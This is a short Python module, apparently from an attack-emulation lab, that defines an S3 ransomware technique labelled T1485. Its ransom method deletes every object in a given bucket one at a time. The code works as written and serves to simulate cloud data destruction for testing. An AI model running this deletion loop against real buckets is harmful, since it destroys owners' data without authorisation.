"""s3-ransomware-individual-deletion: delete a bucket's objects one by one (T1485)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from lab.attacks.s3_ransomware import S3RansomwareTechnique


class S3RansomwareIndividualDeletion(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-individual"

    def ransom(self, s3: Any, bucket: str, keys: list[str]) -> None:
        for key in keys:
            s3.delete_object(Bucket=bucket, Key=key)


TECHNIQUE = S3RansomwareIndividualDeletion
